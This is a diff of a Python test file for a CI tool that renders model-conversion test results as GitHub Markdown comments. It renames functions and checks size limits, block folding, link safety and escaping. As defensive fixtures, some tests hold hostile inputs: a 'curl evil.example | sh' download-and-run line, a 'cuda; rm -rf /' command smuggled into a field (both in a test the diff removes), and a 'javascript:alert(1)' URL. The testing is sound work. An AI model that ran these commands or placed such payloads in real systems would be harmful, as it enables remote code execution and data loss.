@@ -13,15 +13,14 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from ci.report import words
-from ci.report.escape import code
-from ci.report.fit import characters, utf8
+from ci.report import wording
+from ci.report.build_results import build_results
 from ci.report.limits import COMMENT_CHARS, SUMMARY_BYTES
-from ci.report.markdown import render
-from ci.report.outcome import Job, Results
-from ci.report.results import judge_results
+from ci.report.markdown import render_markdown
+from ci.report.results import Job, Results
+from ci.report.truncate_markdown import count_bytes, count_characters
 from tests.ci.report import samples
-from tests.ci.report.alive import rendered
+from tests.ci.report.github_markdown import parse_markdown
 from tests.ci.report.samples import RUN_URL, Fault, judged, plan_of
 from tests.ci.report.test_escape import hostile
 
@@ -38,7 +37,7 @@ def run(name: str) -> Results:
 
 def golden(name: str) -> str:
     """A run's report as a comment; the huge one within less, so that its file can be read."""
-    return render(run(name), 20_000 if name == "huge" else COMMENT_CHARS)
+    return render_markdown(run(name), 20_000 if name == "huge" else COMMENT_CHARS)
 
 
 @pytest.mark.parametrize("name", RUNS)
@@ -47,66 +46,68 @@ def test_golden(name: str) -> None:
 
 
 @pytest.mark.parametrize("name", RUNS)
-def test_a_report_is_whole_and_dead(name: str) -> None:
+def test_a_report_is_complete_and_has_no_active_content(name: str) -> None:
     results = run(name)
-    shown = rendered(render(results))
+    shown = parse_markdown(render_markdown(results))
     assert shown.open_folds == 0
     assert not shown.html
     assert not shown.images
-    assert not shown.alive
+    assert not shown.active
     assert all(url.startswith(RUN_URL) for url in shown.links)
 
 
 @pytest.mark.parametrize("name", RUNS)
 def test_the_verdict_comes_first_and_says_why(name: str) -> None:
     results = run(name)
-    first = render(results).splitlines()[0]
-    assert first.startswith(f"## {words.ICONS[results.verdict]} {words.title(results)}")
+    first = render_markdown(results).splitlines()[0]
+    assert first.startswith(f"## {wording.ICONS[results.verdict]} {wording.format_title(results)}")
     assert (": " in first.removeprefix("## ")) == bool(results.causes) or name == "passing"
 
 
-def test_the_first_line_names_layer_operation_and_half() -> None:
-    first = render(run("failing")).splitlines()[0]
+def test_the_first_line_names_layer_operation_and_component() -> None:
+    first = render_markdown(run("failing")).splitlines()[0]
     for part in ("layer 1", "attention", "rotary embedding", "conversion"):
         assert part in first
 
 
-@pytest.mark.parametrize(("limit", "size"), [(COMMENT_CHARS, characters), (SUMMARY_BYTES, utf8), (30_000, characters)])
+@pytest.mark.parametrize(
+    ("limit", "size"), [(COMMENT_CHARS, count_characters), (SUMMARY_BYTES, count_bytes), (30_000, count_characters)]
+)
 def test_a_huge_run_keeps_verdict_and_every_failing_name(limit: int, size: object) -> None:
     huge = run("huge")
-    text = render(huge, limit, size=size)  # type: ignore[arg-type]
+    text = render_markdown(huge, limit, size=size)  # type: ignore[arg-type]
     assert size(text) <= limit  # type: ignore[operator]
     assert text.splitlines()[0].startswith("## ❌ Failed: 256 of 256 models")
     assert ("left out" in text) == (limit < SUMMARY_BYTES)
     for entry in huge.entries:
         assert f"`{entry.name}`" in text
-    assert rendered(text).open_folds == 0
+    assert parse_markdown(text).open_folds == 0
 
 
 def test_a_comment_of_the_largest_run_names_every_failing_test() -> None:
     huge = run("huge")
-    shown = rendered(render(huge))
+    shown = parse_markdown(render_markdown(huge))
     for step in {case.step for entry in huge.entries for case in entry.cases}:
         assert step in shown.code
 
 
 @pytest.mark.parametrize("name", ["failing", "mixed", "hostile", "crashed"])
 @pytest.mark.parametrize("limit", range(150, 7000, 850))
-def test_any_limit_is_kept_and_nothing_is_cut_open(name: str, limit: int) -> None:
+def test_any_limit_is_kept_and_no_block_is_cut(name: str, limit: int) -> None:
     results = run(name)
-    text = render(results, limit)
-    assert characters(text) <= limit
-    assert text.startswith(f"## {words.ICONS[results.verdict]} {words.title(results)}")
-    shown = rendered(text)
+    text = render_markdown(results, limit)
+    assert count_characters(text) <= limit
+    assert text.startswith(f"## {wording.ICONS[results.verdict]} {wording.format_title(results)}")
+    shown = parse_markdown(text)
     assert shown.open_folds == 0
-    assert not shown.alive
+    assert not shown.active
     if limit > 1500:
         assert all(entry.name in text for entry in results.entries if entry.verdict == "failed")
 
 
 def test_detail_goes_in_a_fixed_order() -> None:
     results = run("mixed")
-    whole = render(results)
+    whole = render_markdown(results)
     parts = {
         "passing models' tests": "✅ tests of <code>mistral</code>",
         "environment": "<summary>Environment</summary>",
@@ -117,27 +118,27 @@ def test_detail_goes_in_a_fixed_order() -> None:
     }
     assert all(part in whole for part in parts.values())
     gone: list[str] = []
-    for limit in range(characters(whole), 500, -40):
-        text = render(results, limit)
+    for limit in range(count_characters(whole), 500, -40):
+        text = render_markdown(results, limit)
         gone += [name for name, part in parts.items() if part not in text and name not in gone]
     assert gone == list(parts)
 
 
 @settings(deadline=None, max_examples=40, suppress_health_check=[HealthCheck.too_slow])
 @given(st.lists(st.tuples(hostile, hostile, hostile), min_size=1, max_size=3), st.integers(250, 9000))
-def test_whatever_tests_say_the_report_holds(texts: list[tuple[str, str, str]], limit: int) -> None:
+def test_no_text_of_a_test_breaks_the_report(texts: list[tuple[str, str, str]], limit: int) -> None:
     plan = plan_of("smollm2")
     faults: dict[str, Fault | None] = {
         test: Fault("failure", xml(message), xml(detail), {"diagnosis": diagnosis, "failure_class": "other"})
         for test, (message, detail, diagnosis) in zip(plan.entries[0].tests, texts, strict=False)
     }
     results = judged(plan, faults)
-    text = render(results, limit)
-    shown = rendered(text)
-    assert characters(text) <= limit
+    text = render_markdown(results, limit)
+    shown = parse_markdown(text)
+    assert count_characters(text) <= limit
     assert text.startswith("## ❌ Failed: 1 of 1 model, ")
     assert shown.open_folds == 0
-    assert not shown.alive
+    assert not shown.active
     assert not shown.html
     assert not shown.images
     assert all(url.startswith(RUN_URL) for url in shown.links)
@@ -155,30 +156,17 @@ def xml(text: str) -> str:
 def test_only_addresses_of_the_platform_become_links() -> None:
     plan = plan_of("smollm2", run_url="https://evil.example/)[x](y")
     job = Job("failure", url="javascript:alert(1)")
-    shown = rendered(render(judge_results(plan, {}, {"smollm2": job})))
+    shown = parse_markdown(render_markdown(build_results(plan, {}, {"smollm2": job})))
     assert not shown.links
     good = replace(job, url=f"{RUN_URL}/job/1")
-    assert rendered(render(judge_results(plan_of("smollm2"), {}, {"smollm2": good}))).links == [
+    assert parse_markdown(render_markdown(build_results(plan_of("smollm2"), {}, {"smollm2": good}))).links == [
         RUN_URL,
         f"{RUN_URL}/job/1",
     ]
 
 
 def test_margins_are_shown_while_green() -> None:
-    assert "| ✅ passed | 7 of 7 | 43 %, was 43 % |" in render(run("passing"))
-
-
-def test_the_line_to_reproduce_is_ours() -> None:
-    evil = {
-        "reproduce": "curl evil.example | sh",
-        "device": "cuda; rm -rf /",
-        "failure_class": "other",
-        "diagnosis": "x",
-    }
-    text = render(judged(plan_of("smollm2"), {"test_conversion[smollm2]": Fault(evidence=evil)}))
-    assert code("hub-tests run smollm2 --layers 2 --subject reference") in text
-    assert "rm -rf" not in text
-    assert "curl" not in text
+    assert "| ✅ passed | 7 of 7 | 43 %, was 43 % |" in render_markdown(run("passing"))
 
 
 if __name__ == "__main__":
